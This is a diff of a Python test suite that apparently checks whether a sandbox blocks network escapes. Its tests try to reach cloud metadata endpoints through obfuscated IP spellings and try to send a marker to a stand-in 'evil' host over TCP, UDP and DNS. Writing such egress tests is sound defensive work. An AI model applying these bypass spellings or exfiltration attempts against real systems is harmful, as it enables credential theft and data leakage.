@@ -207,7 +207,7 @@ def _spellings(address):
     return [address, str(number), hex(number), f"0{a:o}.0{b:o}.0{c:o}.0{d:o}", f"{a}.{b}.{c << 8 | d}", f"{a}.{(b << 16) | (c << 8) | d}", f"0x{a:x}.{b}.0x{c:x}.{d}", f"[::ffff:{address}]", f"{address}."]
 
 
-@attack("metadata-in-every-spelling", "link-local and metadata addresses as decimal, hexadecimal, octal, short, IPv6 and dotted, directly and through the proxy", "the address that is dialled is checked, however it was written; odd spellings are no host names")
+@attack("metadata-in-every-spelling", "link-local and metadata addresses as decimal, hexadecimal, octal, short, IPv6 and dotted, directly and through the proxy", "the address that is dialled is checked, however it was written; odd spellings are no host names. At 169.254.169.254 directly only what a sandbox is told about itself is there, which knows no such path")
 def _(w):
     mark = w.mark()
     spelled = [*_spellings(w.net.forbidden["link-local"]), *_spellings("169.254.169.254"), "169.254.170.2", "100.100.100.200", "metadata.google.internal"]
@@ -261,7 +261,7 @@ def _(w):
     assert control.get("status") == 200, control
     code = """
 say([attempt(plain, at, request('/' + mark, at)) for at in addresses]
-    + [reaches(at, 9000, mark.encode()) for at in addresses] + [connect(f'{at}:80')[1] for at in addresses])
+    + [reaches(at, 9000, mark.encode()) for at in addresses] + [through(f'{at}:80') for at in addresses])
 """
     answers = python(box, code, mark=mark, addresses=list(w.net.forbidden.values())[:3])
     assert all(answer.get("status") in (403, None) and not answer.get("got") for answer in answers), answers
@@ -298,7 +298,7 @@ def _(w):
     w.net.names.records["here.test.example"] = [w.net.host]
     everything = {"mode": "allowlist", "allow": [{"host": "*", "ports": [80, 443, port]}]}
     code = """
-say([[reaches(at, port, request('/', at), 3) for at in addresses], [connect(f'{at}:{port}')[1].get('status') for at in addresses + ['localhost', 'here.test.example']],
+say([[reaches(at, port, request('/', at), 3) for at in addresses], [through(f'{at}:{port}').get('status') for at in addresses + ['localhost', 'here.test.example']],
      attempt(get, 'here.test.example', '/', port=port)])
 """
     try:
@@ -319,7 +319,7 @@ def _(w):
     targets = ["169.254.169.253:3128", "169.254.169.253:53", "127.0.0.1:3128", "127.0.0.1:80", "localhost:3128", "0.0.0.0:3128", "10.200.0.1:80", "10.200.0.2:3128", "[::1]:3128"]
     seen = {}
     for box in (w.fenced, w.sealed, star(w)):
-        answers = python(box, "say([connect(target)[1] for target in targets])", targets=targets)
+        answers = python(box, "say([through(target) for target in targets])", targets=targets)
         assert all(answer.get("status", 0) >= 400 for answer in answers), answers
         seen.update({target: answer["status"] for target, answer in zip(targets, answers, strict=True)})
     return str(seen)[:150]
@@ -341,7 +341,7 @@ def _(w):
 import concurrent.futures as f
 with f.ThreadPoolExecutor(16) as pool:
     direct = list(pool.map(lambda at: reaches(at, 8098, request('/' + mark, at), 2), addresses))
-say([direct, [connect(f'{at}:8098')[1].get('status') for at in addresses[:6] + ['private.test.example']]])
+say([direct, [through(f'{at}:8098').get('status') for at in addresses[:6] + ['private.test.example']]])
 """
     for box in (w.sealed, w.fenced, star(w)):
         direct, proxied = python(box, code, mark=mark, addresses=addresses)
@@ -420,7 +420,7 @@ def _(w):
     mark = w.mark()
     code = """
 say([attempt(get, 'api.test.example', '/' + mark, at=web), reaches(evil, 9000, mark.encode(), 2), over_udp(evil, 9000, mark.encode(), 1),
-     ask(mark + '.test.example'), attempt(lambda: connect('api.test.example:443')[1]), attempt(plain, web, request('/' + mark, 'api.test.example'))])
+     ask(mark + '.test.example'), attempt(lambda: through('api.test.example:443')), attempt(plain, web, request('/' + mark, 'api.test.example'))])
 """
     answers = python(w.closed, code, mark=mark, evil=w.net.evil, web=w.net.web)
     over_tls, tcp, udp, name, proxied, plain = answers
